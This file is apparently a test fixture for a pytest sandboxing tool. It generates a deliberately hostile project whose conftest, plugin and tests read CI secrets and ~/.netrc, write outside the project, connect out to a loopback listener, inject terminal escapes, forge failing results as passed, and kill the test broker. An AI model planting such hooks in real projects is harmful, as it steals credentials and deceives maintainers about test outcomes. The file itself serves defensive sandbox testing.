@@ -1,0 +1,234 @@
+"""A hostile project and the runs of it: one normal (attacks succeed), one untrusted.
+
+The project attacks from every place pytest runs project code: its
+conftest.py at import, a test module at import, a plugin named in its ini
+(``-p evilplug`` with ``pythonpath = .``), a ``pytest_collection_modifyitems``
+hook, its tests, and hooks that forge the outcome. Each attack leaves
+evidence on the host when it works: a file in ``outside/`` (a host directory
+next to the project), a connection to a listener on the host's loopback,
+the secret in the output, escape sequences in the output, a killed broker.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import textwrap
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+IMAGE = "pytest-isolate/debian:bookworm"
+SECRET = "ci-secret-7f3a9c"
+NETRC_TOKEN = "netrc-token-51e0b2"
+ESCAPES = ("\x1b]0;pwned\x07", "\x1b[2J")
+
+# Every attack records itself with this helper (written into each file so
+# each is self-contained; errors are swallowed so the next attack still runs).
+_EVIDENCE = """
+import os, pathlib
+OUTSIDE = {outside!r}
+def evidence(name, text="x"):
+    try:
+        pathlib.Path(OUTSIDE, name).write_text(text)
+        return True
+    except OSError:
+        return False
+def steal():
+    netrc = ""
+    try:
+        netrc = pathlib.Path(os.path.expanduser("~/.netrc")).read_text()
+    except OSError:
+        pass
+    return os.environ.get("CI_SECRET", "") + " " + netrc
+"""
+
+CONFTEST = """
+{evidence}
+import pytest
+evidence("conftest-imported", steal())
+print("conftest stole:", steal())
+
+def pytest_collection_modifyitems(items):
+    evidence("modifyitems-ran")
+    for item in items:
+        # try to loosen the untrusted limits through marks
+        item.add_marker(pytest.mark.isolate("container", network=True, timeout=100000))
+        if item.name == "test_escape_in_name":
+            from _pytest.nodeid import coerce_node_id
+            item._id = coerce_node_id(item.nodeid + "[\\x1b]0;pwned\\x07\\x1b[2J]")
+
+def pytest_runtest_logreport(report):
+    # forge: a failing test shows as passed
+    if report.failed and "test_fails_honestly" in report.nodeid:
+        report.outcome = "passed"
+
+def pytest_sessionfinish(session):
+    session.exitstatus = 0  # forge: the run says all is well
+"""
+
+EVILPLUG = """
+{evidence}
+evidence("plugin-imported", steal())
+"""
+
+TEST_ATTACKS = """
+{evidence}
+import socket
+evidence("module-imported", steal())
+PORT = {port}
+PROJECT = {project!r}
+
+def test_write_host():
+    assert evidence("test-wrote-host")
+
+def test_write_project():
+    with open(PROJECT + "/pwned-by-test", "w") as fh:
+        fh.write("x")
+
+def test_read_secret():
+    print("stolen:", steal())
+
+def test_network():
+    with socket.create_connection(("127.0.0.1", PORT), timeout=3) as conn:
+        conn.sendall(b"pwned")
+
+def test_escape_in_output():
+    print("title \\x1b]0;pwned\\x07 clear \\x1b[2J")
+    assert False, "message \\x1b]0;pwned\\x07\\x1b[2J"
+
+def test_escape_in_name():
+    pass
+
+def test_fails_honestly():
+    assert 1 == 2
+"""
+
+TEST_KILL = """
+import os, signal
+MARK = {base!r}
+
+def test_kill_broker():
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            cmdline = open(f"/proc/{{entry}}/cmdline", "rb").read().decode(errors="replace")
+        except OSError:
+            continue
+        if MARK in cmdline and "pytest" in cmdline:
+            os.kill(int(entry), signal.SIGKILL)
+    try:
+        os.kill(1, signal.SIGKILL)
+    except OSError:
+        pass
+"""
+
+INI = """
+[pytest]
+addopts = -p evilplug
+pythonpath = .
+"""
+
+
+@dataclass
+class Listener:
+    """A loopback TCP listener on the host: records what connects."""
+
+    sock: socket.socket
+    received: list[bytes] = field(default_factory=list)
+
+    @property
+    def port(self) -> int:
+        return int(self.sock.getsockname()[1])
+
+    def serve(self) -> None:
+        with contextlib.suppress(OSError):
+            while True:
+                conn, _ = self.sock.accept()
+                with conn:
+                    conn.settimeout(2)
+                    with contextlib.suppress(OSError):
+                        self.received.append(conn.recv(100))
+
+
+@dataclass
+class HostileProject:
+    base: Path
+    listener: Listener
+
+    @property
+    def project(self) -> Path:
+        return self.base / "project"
+
+    @property
+    def outside(self) -> Path:
+        return self.base / "outside"
+
+    def evidence(self) -> set[str]:
+        return {p.name for p in self.outside.iterdir()}
+
+    def reset(self) -> None:
+        for path in self.outside.iterdir():
+            path.unlink()
+        (self.project / "pwned-by-test").unlink(missing_ok=True)
+        self.listener.received.clear()
+
+    def run(self, *args: str, front_door: bool = False) -> subprocess.CompletedProcess[bytes]:
+        """A broker over the project (cwd = project, as a CI job runs it)."""
+        env = {
+            "PATH": os.environ["PATH"],
+            "HOME": str(self.base / "home"),
+            "CI_SECRET": SECRET,
+            "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "",
+        }
+        env = {k: v for k, v in env.items() if v}
+        if front_door:
+            command = [sys.executable, "-P", "-m", "pytest_isolate.untrusted"]
+        else:  # "normally": plain pytest, as the project's own CI would run it
+            command = [sys.executable, "-m", "pytest", "-p", "no:isolate"]
+        command += ["-p", "no:cacheprovider", "--color=no", "-rA", *args, str(self.project)]
+        return subprocess.run(
+            command, cwd=self.project, env=env, capture_output=True, timeout=300, check=False
+        )
+
+
+@contextlib.contextmanager
+def hostile_project() -> Iterator[HostileProject]:
+    """The project under /var/tmp (the vm layer hides /tmp), removed afterwards."""
+    base = Path(tempfile.mkdtemp(prefix="ut-hostile-", dir="/var/tmp"))
+    base.chmod(0o755)
+    sock = socket.socket()
+    sock.bind(("127.0.0.1", 0))
+    sock.listen(8)
+    listener = Listener(sock)
+    thread = threading.Thread(target=listener.serve, daemon=True)
+    thread.start()
+    try:
+        project = base / "project"
+        for directory in (project, base / "outside", base / "home"):
+            directory.mkdir()
+        (base / "home" / ".netrc").write_text(f"machine ci login bot password {NETRC_TOKEN}\n")
+        evidence = _EVIDENCE.format(outside=str(base / "outside"))
+        files = {
+            "conftest.py": CONFTEST.format(evidence=evidence),
+            "evilplug.py": EVILPLUG.format(evidence=evidence),
+            "test_attacks.py": TEST_ATTACKS.format(
+                evidence=evidence, port=listener.port, project=str(project)
+            ),
+            "test_zz_kill.py": TEST_KILL.format(base=base.name),
+            "pytest.ini": INI,
+        }
+        for name, text in files.items():
+            (project / name).write_text(textwrap.dedent(text))
+        yield HostileProject(base, listener)
+    finally:
+        sock.close()
+        thread.join(timeout=5)
+        shutil.rmtree(base, ignore_errors=True)
